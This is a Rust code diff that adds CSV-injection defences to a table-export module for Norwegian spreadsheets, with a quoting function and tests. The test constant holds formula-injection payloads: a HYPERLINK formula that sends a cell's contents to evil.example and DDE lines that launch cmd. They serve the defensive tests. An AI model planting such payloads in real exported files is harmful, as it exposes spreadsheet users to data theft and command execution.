@@ -6,16 +6,76 @@ pub mod chart;
 
 use rust_xlsxwriter::{Format, Workbook, XlsxError};
 
+/// One cell of an exported table: text, or a number the application formatted itself.
+///
+/// Spreadsheet programs run a CSV cell that begins with `=`, `+`, `-` or `@` (or with a tab or carriage
+/// return before one) as a formula, so [`csv_table`] neutralises text cells as OWASP advises (see
+/// [`neutralise`]). A number written by the application stays a number, also a negative one: a
+/// [`Cell`] made by [`Cell::number`] or [`Cell::decimal_comma`] holds only what Rust's own float
+/// formatting gives, which cannot be a formula, and no caller can put other text into it. Text that
+/// merely looks like a number (a title "-5") is text and is neutralised like any other text.
+#[derive(Debug, Clone, PartialEq)]
+pub struct Cell {
+    text: String,
+    number: bool,
+}
+
+impl Cell {
+    /// Text, neutralised in CSV when it could run as a formula.
+    pub fn text(text: impl Into<String>) -> Self {
+        Self { text: text.into(), number: false }
+    }
+
+    /// A number with a decimal point (`-1.5`).
+    pub fn number(value: f64) -> Self {
+        Self { text: value.to_string(), number: true }
+    }
+
+    /// A number with a decimal comma (`-1,5`), as Norwegian spreadsheets and the U4SSC import read it.
+    pub fn decimal_comma(value: f64) -> Self {
+        Self { text: value.to_string().replace('.', ","), number: true }
+    }
+
+    /// The cell's text as the application wrote it (what an XLSX string cell holds).
+    pub fn as_str(&self) -> &str {
+        &self.text
+    }
+
+    /// The cell as it goes into a CSV file.
+    fn csv_text(&self) -> std::borrow::Cow<'_, str> {
+        if self.number { self.text.as_str().into() } else { neutralise(&self.text) }
+    }
+}
+
+impl From<String> for Cell {
+    fn from(text: String) -> Self {
+        Self::text(text)
+    }
+}
+
+impl From<&str> for Cell {
+    fn from(text: &str) -> Self {
+        Self::text(text)
+    }
+}
+
+/// Text for a CSV cell that no spreadsheet runs as a formula: text beginning with `=`, `+`, `-`, `@`,
+/// a tab or a carriage return gets a leading `'` (OWASP, "CSV Injection"). The `'` shows in the cell,
+/// which is the price of opening the file safely; the original text is in the XLSX export and the API.
+pub fn neutralise(text: &str) -> std::borrow::Cow<'_, str> {
+    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) { format!("'{text}").into() } else { text.into() }
+}
+
 /// Writes a table as CSV with a header row, in UTF-8 with a BOM so spreadsheet programs
 /// used in Norwegian municipalities open æ, ø and å correctly; `;` separates, as Excel expects
-/// with Norwegian regional settings.
-pub fn csv_table(header: &[&str], rows: &[Vec<String>]) -> Result<Vec<u8>, csv::Error> {
+/// with Norwegian regional settings. Every text cell, the header included, is [`neutralise`]d.
+pub fn csv_table<C: Into<Cell> + Clone>(header: &[&str], rows: &[Vec<C>]) -> Result<Vec<u8>, csv::Error> {
     let mut out = vec![0xEF, 0xBB, 0xBF];
     {
         let mut writer = csv::WriterBuilder::new().delimiter(b';').from_writer(&mut out);
-        writer.write_record(header)?;
+        writer.write_record(header.iter().map(|h| neutralise(h).into_owned()))?;
         for row in rows {
-            writer.write_record(row)?;
+            writer.write_record(row.iter().map(|c| c.clone().into().csv_text().into_owned()))?;
         }
         writer.flush()?;
     }
@@ -23,8 +83,15 @@ pub fn csv_table(header: &[&str], rows: &[Vec<String>]) -> Result<Vec<u8>, csv::
 }
 
 /// Writes a table as an XLSX workbook: a title row, a bold header row with a filter, frozen
-/// panes below it, and column widths fitted to the content (within bounds).
-pub fn xlsx_table(sheet: &str, title: &str, header: &[&str], rows: &[Vec<String>]) -> Result<Vec<u8>, XlsxError> {
+/// panes below it, and column widths fitted to the content (within bounds). Every cell is written
+/// as a string cell, which a spreadsheet never evaluates, so no text is changed.
+pub fn xlsx_table<C: Into<Cell> + Clone>(
+    sheet: &str,
+    title: &str,
+    header: &[&str],
+    rows: &[Vec<C>],
+) -> Result<Vec<u8>, XlsxError> {
+    let rows: Vec<Vec<Cell>> = rows.iter().map(|r| r.iter().map(|c| c.clone().into()).collect()).collect();
     let mut workbook = Workbook::new();
     let ws = workbook.add_worksheet();
     // Sheet names are limited to 31 characters and some punctuation.
@@ -39,11 +106,12 @@ pub fn xlsx_table(sheet: &str, title: &str, header: &[&str], rows: &[Vec<String>
     }
     for (r, row) in rows.iter().enumerate() {
         for (c, value) in row.iter().enumerate() {
-            ws.write_string_with_format(3 + r as u32, c as u16, value, &wrap)?;
+            ws.write_string_with_format(3 + r as u32, c as u16, value.as_str(), &wrap)?;
         }
     }
     for (c, h) in header.iter().enumerate() {
-        let longest = rows.iter().filter_map(|r| r.get(c)).map(|v| v.chars().count()).chain([h.chars().count()]).max();
+        let longest =
+            rows.iter().filter_map(|r| r.get(c)).map(|v| v.as_str().chars().count()).chain([h.chars().count()]).max();
         ws.set_column_width(c as u16, longest.unwrap_or(10).clamp(8, 60) as f64 + 2.0)?;
     }
     if !header.is_empty() {
@@ -60,10 +128,68 @@ mod tests {
 
     #[test]
     fn csv_quotes_separators_and_keeps_norwegian_letters() {
-        let bytes = csv_table(&["navn", "notat"], &[vec!["Bjørnstad; Ås".into(), "sa \"hei\"".into()]]).unwrap();
+        let bytes = csv_table(&["navn", "notat"], &[vec!["Bjørnstad; Ås", "sa \"hei\""]]).unwrap();
         assert_eq!(&bytes[..3], &[0xEF, 0xBB, 0xBF]);
         let text = String::from_utf8(bytes[3..].to_vec()).unwrap();
         assert_eq!(text, "navn;notat\n\"Bjørnstad; Ås\";\"sa \"\"hei\"\"\"\n");
+    }
+
+    /// The payloads of OWASP's CSV-injection page and the issue, each as a whole cell.
+    const FORMULAS: [&str; 8] = [
+        "=HYPERLINK(\"https://evil.example?\"&A1,\"Klikk\")",
+        "+cmd|' /C calc'!A0",
+        "-1+1",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+        "=1+1;\"=2+2\"",
+        "-",
+    ];
+
+    /// The cells of a CSV file written by [`csv_table`], read back as a spreadsheet would split them.
+    fn read_back(bytes: &[u8]) -> Vec<Vec<String>> {
+        let mut reader = csv::ReaderBuilder::new().delimiter(b';').has_headers(false).from_reader(&bytes[3..]);
+        reader.records().map(|r| r.unwrap().iter().map(str::to_owned).collect()).collect()
+    }
+
+    #[test]
+    fn csv_text_that_a_spreadsheet_would_run_is_neutralised() {
+        let rows: Vec<Vec<String>> = FORMULAS.iter().map(|f| vec![f.to_string(), "trygg tekst".into()]).collect();
+        let cells = read_back(&csv_table(&["=tittel", "notat"], &rows).unwrap());
+        assert_eq!(cells[0], ["'=tittel", "notat"]);
+        for (formula, row) in FORMULAS.iter().zip(&cells[1..]) {
+            assert_eq!(row[0], format!("'{formula}"), "{formula:?}");
+            assert_eq!(row[1], "trygg tekst");
+        }
+        // Text that only contains such characters later on is left alone.
+        let plain = read_back(&csv_table(&["a"], &[vec!["Mål = 2 + 2 - 1 @ kl. 12"]]).unwrap());
+        assert_eq!(plain[1], ["Mål = 2 + 2 - 1 @ kl. 12"]);
+    }
+
+    #[test]
+    fn numbers_the_application_writes_stay_numbers_and_look_alike_text_does_not() {
+        let rows = vec![
+            vec![Cell::number(-1.5), Cell::decimal_comma(-2.25), Cell::number(3.0), Cell::text("-5")],
+            vec![Cell::number(f64::NAN), Cell::decimal_comma(0.5), Cell::text("+47 123"), "@".into()],
+        ];
+        let cells = read_back(&csv_table(&["a", "b", "c", "d"], &rows).unwrap());
+        assert_eq!(cells[1], ["-1.5", "-2,25", "3", "'-5"]);
+        assert_eq!(cells[2], ["NaN", "0,5", "'+47 123", "'@"]);
+    }
+
+    #[test]
+    fn xlsx_keeps_formula_text_as_strings() {
+        let rows: Vec<Vec<Cell>> = FORMULAS.iter().map(|f| vec![Cell::text(*f), Cell::number(-1.0)]).collect();
+        let bytes = xlsx_table("Ark", "Tittel", &["Tekst", "Tall"], &rows).unwrap();
+        let mut book: Xlsx<_> = Xlsx::new(std::io::Cursor::new(bytes)).unwrap();
+        let formulas = book.worksheet_formula("Ark").unwrap();
+        assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()), "a cell holds a formula");
+        let range = book.worksheet_range("Ark").unwrap();
+        for (r, formula) in FORMULAS.iter().enumerate() {
+            let cell = range.get_value((3 + r as u32, 0)).unwrap();
+            assert_eq!(cell, &calamine::Data::String(formula.to_string()), "the text is kept as it was written");
+            assert_eq!(range.get_value((3 + r as u32, 1)).unwrap(), &calamine::Data::String("-1".into()));
+        }
     }
 
     #[test]
